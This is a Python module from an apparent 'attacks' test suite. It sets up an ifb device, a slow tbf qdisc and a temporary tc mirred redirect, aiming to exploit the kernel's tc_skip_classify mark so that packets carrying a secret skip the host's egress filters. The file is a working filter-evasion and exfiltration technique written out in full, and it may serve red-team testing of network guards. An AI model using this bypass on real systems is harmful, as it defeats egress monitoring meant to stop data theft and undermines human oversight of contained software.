"""Packets that skip the host's filters: a detour over an ifb device marks them so.

A packet that an ifb device sends on carries the kernel's note that filters have seen it
(tc_skip_classify). The note crosses the veth, and the host's end does not ask its filters: what
the classifier lets out only for the guard to take out would arrive. `secret` ends its segment,
so that it waits for the next byte; nothing more is sent.
A slow qdisc (tbf) keeps packets on the ifb while the detour is taken away, or the way out's own
filters would remove the note.
"""

from __future__ import annotations

import time

from attacks.connection import drained, give_up
from attacks.inner import run
from attacks.target import Target, refused

ROUNDS = 3


def main(target: Target) -> None:
    """A detour for each of some connections."""
    run("ip", "link", "add", "ifb9", "type", "ifb")
    run("ip", "link", "set", "ifb9", "up")
    slow = ("tbf", "rate", "8kbit", "burst", "1600", "latency", "20s")
    run("tc", "qdisc", "add", "dev", "ifb9", "root", *slow)
    run("tc", "qdisc", "add", "dev", target.device, "clsact", check=False)
    every = ("u32", "match", "ip", "dport", str(target.port), "0xffff")
    detour = ("action", "mirred", "egress", "redirect", "dev", "ifb9")
    egress = ("dev", target.device, "egress")
    # Alone on its line, the value ends the segment.
    message = target.payload[: target.payload.index(target.secret) + len(target.secret)]
    filler = b"." * 1300 + b"\n"
    for _ in range(ROUNDS):
        made = target.tcp()
        try:
            made.sendall(b"hello\n")
            drained(made)
            run("tc", "filter", "add", *egress, "pref", "7", "protocol", "ip", *every, *detour)
            with refused():
                made.sendall(filler)  # takes the qdisc's burst
                made.sendall(message)
            time.sleep(0.01)
            run("tc", "filter", "del", *egress, "pref", "7")
            drained(made, 3.0)
        finally:
            give_up(made)
    run("ip", "link", "del", "ifb9", check=False)
